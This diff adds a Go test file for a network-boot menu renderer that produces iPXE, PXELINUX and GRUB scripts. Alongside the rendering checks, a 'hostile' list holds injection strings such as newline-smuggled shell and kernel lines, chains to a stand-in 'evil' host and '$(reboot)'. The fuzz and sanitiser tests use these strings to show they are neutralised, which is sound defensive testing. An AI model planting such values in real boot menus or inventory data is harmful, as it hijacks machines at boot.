@@ -1,0 +1,193 @@
+package menu
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"bootforge/internal/boot"
+)
+
+func testMenu() boot.Menu {
+	return boot.Menu{
+		Title:   "Lab",
+		Default: "install",
+		Timeout: 3 * time.Second,
+		Entries: []boot.Entry{
+			{Name: "install", Label: "Install Debian", Kind: boot.KindLinux, Kernel: "images/d/vmlinuz",
+				Initrds: []string{"images/d/initrd.gz"}, Cmdline: "console=ttyS0 marker={profile}-{entry} host={hostname}"},
+			{Name: "rescue", Kind: boot.KindLinux, Kernel: "http://mirror.example/vmlinuz", Initrds: []string{"images/r/a.gz", "images/r/b.gz"}},
+			{Name: "win", Kind: boot.KindWimboot, Wimboot: "wimboot", BCD: "win/BCD", BootSDI: "win/boot.sdi", BootWIM: "win/boot.wim"},
+			{Name: "live", Kind: boot.KindISO, ISO: "iso/live.iso"},
+			{Name: "disk", Label: "Local disk", Kind: boot.KindLocal},
+			{Name: "sh", Kind: boot.KindShell},
+		},
+	}
+}
+
+func req() Request {
+	return Request{Menu: testMenu(), Profile: "lab", BaseURL: "http://192.0.2.1:8080",
+		Vars: map[string]string{"profile": "lab", "entry": "install", "hostname": "pc1"}, Query: "bfmac=52-54-00-12-34-56"}
+}
+
+func TestIPXEMenu(t *testing.T) {
+	s, err := IPXE(req())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"#!ipxe\n",
+		"menu Lab\n",
+		"item install Install Debian\n",
+		"choose --default install --timeout 3000 selected || goto install\n",
+		":install\nkernel http://192.0.2.1:8080/images/d/vmlinuz?bfmac=52-54-00-12-34-56 console=ttyS0 marker=lab-install host=pc1\n",
+		"initrd http://192.0.2.1:8080/images/d/initrd.gz\n",
+		"kernel http://mirror.example/vmlinuz?bfmac=52-54-00-12-34-56 \n",
+		"initrd http://192.0.2.1:8080/win/BCD BCD\n",
+		"sanboot http://192.0.2.1:8080/iso/live.iso?bfmac=52-54-00-12-34-56\n",
+		":disk\nexit\n",
+		":sh\nshell\n",
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("missing %q in:\n%s", want, s)
+		}
+	}
+}
+
+func TestIPXEEFIInitrdArg(t *testing.T) {
+	r := req()
+	r.EFI = true
+	r.Boot = "rescue"
+	s, _ := IPXE(r)
+	if !strings.Contains(s, "kernel http://mirror.example/vmlinuz?bfmac=52-54-00-12-34-56 initrd=b.gz initrd=a.gz") {
+		t.Fatalf("EFI initrd= args missing:\n%s", s)
+	}
+	if strings.Contains(s, "menu") || strings.Contains(s, ":install") {
+		t.Fatalf("one-shot still shows the menu:\n%s", s)
+	}
+}
+
+func TestOneShotUnknownEntry(t *testing.T) {
+	r := req()
+	r.Boot = "nope"
+	if _, err := IPXE(r); err == nil {
+		t.Fatal("unknown one-shot entry accepted")
+	}
+}
+
+func TestPXELinux(t *testing.T) {
+	s, err := PXELinux(req())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"UI menu.c32\n", "TIMEOUT 30\n", "DEFAULT install\n",
+		"LABEL install\n  MENU LABEL Install Debian\n  KERNEL images/d/vmlinuz\n  APPEND initrd=images/d/initrd.gz console=ttyS0 marker=lab-install host=pc1\n",
+		"LABEL disk\n  MENU LABEL Local disk\n  LOCALBOOT 0\n",
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("missing %q in:\n%s", want, s)
+		}
+	}
+}
+
+func TestGRUB(t *testing.T) {
+	s, err := GRUB(req())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"set default='install'\n", "set timeout=3\n",
+		"menuentry 'Install Debian' --id 'install' {\n  linux '/images/d/vmlinuz' console=ttyS0 marker=lab-install host=pc1\n  initrd '/images/d/initrd.gz'\n}\n",
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("missing %q in:\n%s", want, s)
+		}
+	}
+}
+
+// hostile are inventory and SMBIOS strings meant to break out of a menu.
+var hostile = []string{
+	"pc1\nshell",
+	"pc1\r\nkernel http://evil/x",
+	"${net0/ip}",
+	"a;reboot",
+	"a' ; reboot ; echo '",
+	`a" ; reboot ; echo "`,
+	"x || shell",
+	"x && chain http://evil",
+	"MENU LABEL pwned",
+	"}\nmenuentry evil {",
+	"$(reboot)",
+	"`reboot`",
+	"a\x00b",
+	"LABEL evil\n KERNEL evil",
+	"set root=(http,evil)",
+	strings.Repeat("A", 5000),
+}
+
+func TestHostileVars(t *testing.T) {
+	for _, h := range hostile {
+		r := req()
+		r.Vars["hostname"] = h
+		for name, render := range map[string]func(Request) (string, error){"ipxe": IPXE, "pxelinux": PXELinux, "grub": GRUB} {
+			s, err := render(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			clean, _ := render(req())
+			if strings.Count(s, "\n") != strings.Count(clean, "\n") {
+				t.Errorf("%s: %q changed the number of lines:\n%s", name, h, s)
+			}
+			for _, bad := range []string{"${net0", "reboot ;", "; reboot", "|| shell", "&& chain", "$(", "`", "'", `"`, "\x00", "menuentry evil"} {
+				if strings.Contains(s, bad) && !strings.Contains(clean, bad) {
+					t.Errorf("%s: %q leaked %q:\n%s", name, h, bad, s)
+				}
+			}
+		}
+	}
+}
+
+func TestSafe(t *testing.T) {
+	if got := Safe("pc-01.lab:x@y+z=1,2/3_"); got != "pc-01.lab:x@y+z=1,2/3_" {
+		t.Fatal(got)
+	}
+	if got := Safe("a b;c$d"); got != "a_b_c_d" {
+		t.Fatal(got)
+	}
+	if got := len(Safe(strings.Repeat("x", 1000))); got > 128 {
+		t.Fatalf("length %d", got)
+	}
+}
+
+// FuzzRender renders menus with arbitrary variables and labels: nothing may
+// panic, untrusted text never adds a line, and never brings its own quotes
+// or expansions.
+func FuzzRender(f *testing.F) {
+	for _, h := range hostile {
+		f.Add(h, "Install", "console=ttyS0")
+	}
+	f.Fuzz(func(t *testing.T, hostname, label, cmdline string) {
+		r := req()
+		r.Vars["hostname"] = hostname
+		r.Menu.Entries[0].Label = label
+		r.Menu.Entries[0].Cmdline = cmdline + " host={hostname}"
+		for _, render := range []func(Request) (string, error){IPXE, PXELinux, GRUB} {
+			s, err := render(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			safe := Safe(hostname)
+			if strings.ContainsAny(safe, "\n\r$;'\"`|&{}() ") {
+				t.Fatalf("Safe let through a special character: %q", safe)
+			}
+			base := req()
+			base.Menu.Entries[0].Label = label
+			base.Menu.Entries[0].Cmdline = cmdline + " host=x"
+			want, _ := render(base)
+			if strings.Count(s, "\n") != strings.Count(want, "\n") {
+				t.Fatalf("hostname %q changed the line count", hostname)
+			}
+		}
+	})
+}
